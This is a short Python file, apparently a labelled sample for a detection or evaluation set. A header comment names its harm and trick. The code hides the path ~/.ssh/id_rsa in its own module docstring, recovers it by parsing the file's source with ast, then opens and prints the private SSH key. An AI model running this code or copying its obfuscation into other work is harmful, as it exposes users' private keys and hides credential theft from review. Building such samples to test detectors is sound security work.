# HARM: reads and prints the private SSH key ~/.ssh/id_rsa | TRICK: path sits only in the module docstring; recovered by parsing the file's own source (__file__) with ast.get_docstring
"""~/.ssh/id_rsa"""
import ast
import os


def own_docstring():
    with open(__file__) as fh:
        tree = ast.parse(fh.read())
    return ast.get_docstring(tree)


key = os.path.expanduser(own_docstring().strip())
with open(key) as fh:
    print(fh.read())
